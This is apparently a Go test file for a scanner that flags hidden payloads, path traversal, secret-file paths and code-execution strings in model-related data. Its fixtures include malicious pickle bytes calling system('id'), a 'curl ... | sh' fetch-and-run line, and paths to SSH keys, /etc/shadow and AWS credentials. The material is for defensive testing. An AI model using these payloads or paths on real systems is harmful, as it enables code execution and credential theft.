package refs

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"io"
	"strings"
	"testing"
)

const evil = "\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."

func TestFindHidden(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	var deflate bytes.Buffer
	w := zlib.NewWriter(&deflate)
	w.Write([]byte(strings.Repeat("payload ", 20)))
	w.Close()
	for name, c := range map[string]struct{ text, what string }{
		"pickle":           {b64([]byte(evil)), "pickle"},
		"pickle 2":         {b64([]byte("\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.")), "pickle"},
		"pickle 2, broken": {b64([]byte("\x80\x02X\x02\x00\x00\x00id0cos\nsystem\nX\x02\x00\x00\x00id\x85Rzzzzzz")), "pickle"},
		"pickle 0":         {b64([]byte("cposix\nsystem\n(S'id'\ntR.")), "pickle"},
		"long string":      {b64(append([]byte("\x80\x03X\x00\x10\x00\x00"), make([]byte, 4100)...)), "pickle"},
		"hexadecimal":      {hex.EncodeToString([]byte(evil)), "pickle"},
		"zlib":             {b64(deflate.Bytes()), "zlib stream"},
		"zip":              {b64([]byte("PK\x03\x04aaaaaaaaaaaaaaaaaaaaaaaa")), "zip archive"},
		"ELF":              {b64([]byte("\x7fELFaaaaaaaaaaaaaaaaaaaaaaaa")), "ELF program"},
		"code":             {b64([]byte("import os; os.system('id')")), "code"},
		"shell":            {b64([]byte("curl http://example.invalid | sh")), "code"},
		"marshal":          {b64([]byte("\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")), "a marshalled code object"},
		"line of an image": {b64([]byte("\x80\x02\xff\xd8\xff\xe0aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")), ""},
		"no zlib":          {b64([]byte("x\x9c\xff\xd8\xff\xe0aaaaaaaaaaaaaaaaaaaaaaaaaaa")), ""},
		"image":            {"data:image/png;base64," + b64([]byte("\x89PNG\r\n\x1a\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")), ""},
		"words":            {"thisisjustaratherlongwordinatokenizersvocabulary", ""},
		"text":             {b64([]byte("just some text of no interest at all")), ""},
		"checksum":         {strings.Repeat("80049500", 8), ""},
		"short":            {b64([]byte("\x80\x02.")), ""},
	} {
		h := FindHidden([]byte(c.text), int64(len(c.text)))
		got := ""
		if h != nil {
			got = h.What
		}
		if got != c.what {
			t.Errorf("%s: %q, want %q", name, got, c.what)
		}
	}
	text := "data:;base64," + b64([]byte(evil)) + "!rest"
	if h := FindHidden([]byte(text[:len(text)-5]), 100); h == nil {
		t.Error("nothing found")
	} else if got, err := io.ReadAll(h.Decode(strings.NewReader(text[h.Skip:]))); err != nil || !strings.HasPrefix(string(got), evil[:len(evil)-3]) {
		t.Errorf("decoded %q, %v", got, err)
	}
}

func TestPaths(t *testing.T) {
	for v, want := range map[string][3]bool{ // escapes, rooted, secret
		"model.safetensors": {}, "a..b": {}, "a/b": {}, "..": {true}, "../x": {true}, "a/../../x": {true}, `a\..\x`: {true}, "/x": {false, true}, `C:\x`: {false, true},
		"~/.ssh/id_rsa": {false, true, true}, "/etc/passwd": {false, true, true}, "../../../etc/passwd": {true, false, true}, "/proc/self/environ": {false, true, true},
		"file:///etc/shadow": {false, false, true}, "/home/me/model": {false, true}, "/home/me/.aws/credentials": {false, true, true},
	} {
		if got := [3]bool{Escapes(v), Rooted(v), Secret(v)}; got != want {
			t.Errorf("%s: %v, want %v", v, got, want)
		}
	}
}

func TestRuns(t *testing.T) {
	for v, want := range map[string]bool{
		"$__import__('os').system('id')": true, "eval(x)": true, " exec('x')": true, "model.eval()": false, "my_eval(x)": false, "$torch.device('cpu')": false,
		"$import os": false, "$subprocess.run('id')": true, "$@net.eval() or eval(x)": true,
	} {
		if got := Runs(v) != ""; got != want {
			t.Errorf("%s: %v, want %v", v, got, want)
		}
	}
}

func FuzzFindHidden(f *testing.F) {
	f.Add([]byte(base64.StdEncoding.EncodeToString([]byte(evil))))
	f.Add([]byte("data:;base64,gAJjb3MKc3lzdGVtCg=="))
	f.Fuzz(func(t *testing.T, text []byte) {
		h := FindHidden(text, int64(len(text)))
		if h == nil {
			return
		}
		if _, err := io.ReadAll(h.Decode(bytes.NewReader(text[h.Skip:]))); err != nil {
			t.Errorf("%q: %v", text, err)
		}
	})
}
